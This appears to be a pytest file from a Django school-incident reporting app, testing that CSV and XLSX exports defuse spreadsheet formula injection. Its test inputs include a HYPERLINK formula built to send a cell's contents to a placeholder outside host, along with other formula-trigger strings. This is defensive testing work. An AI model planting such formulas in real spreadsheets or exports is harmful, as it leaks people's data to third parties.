"""Spreadsheet downloads never carry a live formula (CSV/formula injection)."""

import io
from datetime import date

import openpyxl
import pytest
import tablib
import time_machine

from meldingen.models import Betrokkene
from tests.factories import MeldingFactory

pytestmark = pytest.mark.django_db

# Clicked in Excel, this sends the cell next to it to someone else's server.
FORMULE = '=HYPERLINK("https://example.invalid/?"&B2,"Klik hier")'
GEVAARLIJK = [FORMULE, "+31 6 1234", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def _csv(response):
    tekst = response.getvalue().decode("utf-8-sig")  # the incidents export streams
    return list(tablib.Dataset().load(tekst, format="csv", delimiter=";").dict)


def _xlsx(response):
    blad = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    koppen = [c.value for c in blad[1]]
    return [dict(zip(koppen, rij, strict=True)) for rij in blad.iter_rows(min_row=2)]


def _onschadelijk(waarde: str) -> bool:
    return not waarde or waarde[0] not in "=+-@\t\r"


@pytest.mark.parametrize("naam", GEVAARLIJK)
def test_a_hostile_name_in_the_incident_export_is_plain_text(
    client, convenant_data, stad, gebruikers, in_rol, naam
):
    stad.a1.naam = naam
    stad.a1.save()
    melding = MeldingFactory(school=stad.a1, categorieen=["drugs"])
    Betrokkene.objects.create(melding=melding, rol="dader", soort="leerling", naam=naam)
    client.force_login(gebruikers["coordinator_veiligheid"])  # the coordinator of A1

    rij = _csv(client.get("/meldingen/export/", {"formaat": "csv"}))[0]
    assert _onschadelijk(rij["School"])
    # (The CSV reader turns a lone carriage return into a newline.)
    assert rij["School"].startswith("'")
    assert rij["School"][1:].strip() == naam.strip()
    assert _onschadelijk(rij["Betrokkenen"])

    rij = _xlsx(client.get("/meldingen/export/", {"formaat": "xlsx"}))[0]
    for cel in (rij["School"], rij["Betrokkenen"]):
        assert cel.data_type == "s", cel.value
        assert _onschadelijk(cel.value)
    assert rij["School"].value[1:].strip() == naam.strip()  # XML turns CR into LF


@time_machine.travel("2026-06-01T10:00:00+02:00", tick=False)
def test_a_hostile_school_name_in_the_compliance_export_is_plain_text(
    client, convenant_data, stad, gebruikers
):
    from convenant.models import Convenant, Ondertekening

    for bestuur in (stad.bestuur_x, stad.bestuur_y):
        Ondertekening.objects.create(
            convenant=Convenant.objects.actueel(), organisatie=bestuur, datum=date(2023, 11, 14)
        )
    stad.a1.naam = FORMULE
    stad.a1.save()
    client.force_login(gebruikers["bestuurder"])  # board X: A1 and B1

    rijen = _csv(client.get("/overleggen/naleving/export/", {"formaat": "csv"}))
    assert "'" + FORMULE in {r["Reikwijdte"] for r in rijen}
    assert all(_onschadelijk(v) for r in rijen for v in r.values())

    rijen = _xlsx(client.get("/overleggen/naleving/export/", {"formaat": "xlsx"}))
    cellen = [c for r in rijen for c in r.values() if c.value is not None]
    assert all(c.data_type != "f" for c in cellen)
    assert "'" + FORMULE in {r["Reikwijdte"].value for r in rijen}
    # Numbers stay numbers.
    assert any(c.data_type == "n" for c in cellen)
